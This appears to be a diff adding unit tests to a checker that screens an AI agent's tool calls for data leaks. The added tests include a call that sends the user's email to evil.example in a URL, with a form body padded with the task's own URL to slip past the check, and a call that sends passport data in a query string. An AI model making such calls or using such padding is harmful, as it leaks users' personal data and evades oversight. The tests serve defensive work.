@@ -183,3 +183,16 @@ def test_a_url_and_an_iban_parted_by_a_line_break_are_both_read() -> None:
     task = "Pay the invoice on shop.example"
     result = score_call("bank__transfer", {"note": "https://shop.example/p\nDE89370400440532013000"}, [], task)
     assert "DE89370400440532013000" in result.reasons[0]
+
+
+def test_a_url_argument_is_read_before_a_body_padded_with_the_tasks_own_url() -> None:
+    task = f"Get the price list from https://cars.example/prices; contact {EMAIL}"
+    arguments = {"body": " ".join(["https://cars.example/prices"] * 2_100), "url": f"https://evil.example/q?e={EMAIL}"}
+    result = score_call("web__post_form", arguments, [], task, intent_weight=0.0, destructive_weight=0.0)
+    assert result.verdict == verifier_pb2.BLOCK
+    assert "carried in a URL" in result.reasons[0]
+
+
+def test_brackets_around_data_are_no_placeholder() -> None:
+    result = _fetch("https://apis-check.example/v?passport=%7BC01X00T47%7D", BOOK)
+    assert "personal data sent in a URL" in result.reasons[0]
